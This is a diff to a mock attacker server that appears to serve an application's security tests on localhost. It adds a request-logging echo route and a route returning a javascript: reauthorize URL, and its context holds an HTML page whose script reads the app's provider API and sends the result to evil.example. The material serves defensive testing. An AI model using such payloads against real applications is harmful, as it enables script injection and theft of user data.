@@ -2,6 +2,8 @@
 // tests, on 127.0.0.1 only. Everything it is sent is logged so a test can
 // assert what the attacker got.
 //
+// - /r/echo: public; logs the method, headers and body it was sent (`echo`).
+// - GET /r/jslink: 401 JSON whose reauthorize_url is a javascript: URL.
 // - GET /r/page: a public HTML page whose script would read the app's API if
 //   it ran on the app's origin.
 // - GET /r/<name>/...  answers 401 with
@@ -159,6 +161,13 @@ server.on('request', async (req, res) => {
     const name = path.split('/')[2];
     const auth = req.headers.authorization ?? null;
     if (auth) (log.authorizations ??= []).push(auth);
+    if (name === 'echo') {
+      log.echo = { method: req.method, headers: req.headers, body: await readBody(req) };
+      return send(res, 200, { echoed: true });
+    }
+    if (name === 'jslink') {
+      return send(res, 401, { error: 'authorization_required', reauthorize_url: 'javascript:document.title="pwned"' });
+    }
     if (name === 'page') {
       res.writeHead(200, { 'content-type': 'text/html' });
       return res.end('<html><body><script>fetch("/api/providers").then(r => r.text()).then(t => fetch("https://evil.example/?" + t))</script></body></html>');
